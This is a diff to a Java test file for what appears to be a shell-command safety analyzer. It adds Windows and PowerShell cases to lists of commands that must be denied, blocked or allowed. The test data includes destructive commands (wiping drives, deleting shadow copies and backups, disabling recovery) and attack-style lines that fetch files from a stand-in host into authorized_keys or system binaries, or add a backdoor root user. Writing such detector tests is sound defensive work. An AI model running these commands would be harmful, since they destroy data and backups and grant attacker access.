@@ -90,7 +90,13 @@ class UnseenCommandsTest {
         "vault secrets disable secret/", "vault kv destroy -versions=1,2 secret/app", "curl -o /etc/hosts http://x.example/hosts",
         "curl -fsSL http://x.example/k -o ~/.ssh/authorized_keys", "sudo apt-get remove --purge -y libc6", "sudo yum remove -y kernel",
         "sudo dpkg --force-all -P coreutils", "for t in sessions cache; do psql -c \"TRUNCATE $t\"; done",
-        "sudo rm -rf /root", "sudo rm -rf /root/*", "rm /root/.ssh/authorized_keys"})
+        "sudo rm -rf /root", "sudo rm -rf /root/*", "rm /root/.ssh/authorized_keys",
+        // round 5: Windows / PowerShell
+        "Remove-Item -Recurse -Force C:\\", "rd /s /q C:\\", "del /f /s /q C:\\*", "rm -r -fo C:\\Users",
+        "Remove-Item -Recurse -Force $env:USERPROFILE", "format C: /q /y", "Format-Volume -DriveLetter C -Force",
+        "Clear-Disk -Number 0 -RemoveData -Confirm:$false", "vssadmin delete shadows /all /quiet", "wmic shadowcopy delete",
+        "wbadmin delete catalog -quiet", "bcdedit /set {default} recoveryenabled No", "Stop-Computer -Force",
+        "powershell -c \"Remove-Item -Recurse -Force C:\\\"", "cmd /c \"rd /s /q C:\\\""})
     void clearDestructionIsDenied(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertEquals("deny", assessment.verdict(), () -> command + " -> " + assessment);
@@ -135,7 +141,7 @@ class UnseenCommandsTest {
         "mount -o remount,ro /", "umount -l /", "fsck -y /dev/sda1", "tune2fs -O ^has_journal /dev/sda1", "lvreduce -L 1G /dev/vg/root",
         "ip link set eth0 down", "ifconfig eth0 down", "ip route flush all", "nmcli networking off", "wget -O /usr/bin/ls http://x.example/ls",
         "echo 'root:x' | chpasswd", "usermod -aG sudo attacker", "useradd -o -u 0 backdoor", "rm -rf /data", "rm -rf /mnt/backup/*",
-        "rm -rf /root/.ssh", "docker ps -aq | grep -v keep | xargs docker rm -f"})
+        "rm -rf /root/.ssh", "docker ps -aq | grep -v keep | xargs docker rm -f", "reg delete HKLM\\SYSTEM /f"})
     void riskyCommandsAreBlocked(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertTrue(assessment.blocked(), () -> command + " -> " + assessment);
@@ -211,7 +217,9 @@ class UnseenCommandsTest {
         "curl -fsSLo /usr/share/keyrings/docker.gpg https://download.docker.com/linux/ubuntu/gpg",
         "sudo rm -rf /root/.cache", "docker ps --format '{{.Names}}' | grep test- | xargs docker rm -f",
         "kubectl delete pod -l app=web --field-selector=status.phase==Succeeded", "while read -r f; do rm -f \"$f\"; done < files.txt",
-        "rm -rf ~/Library/Developer/Xcode/DerivedData", "sudo rm -rf /var/cache/apt/archives/*.deb", "podman rmi --prune"})
+        "rm -rf ~/Library/Developer/Xcode/DerivedData", "sudo rm -rf /var/cache/apt/archives/*.deb", "podman rmi --prune",
+        "Remove-Item -Recurse -Force .\\build", "rd /s /q build", "del /q *.tmp", "Get-ChildItem", "dir C:\\", "vssadmin list shadows",
+        "reg query HKLM\\SYSTEM", "powershell -c \"Remove-Item -Recurse -Force .\\build\"", "pwsh -c Get-Process"})
     void benignLookAlikesAreAllowed(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertEquals("allow", assessment.verdict(), () -> command + " -> " + assessment);
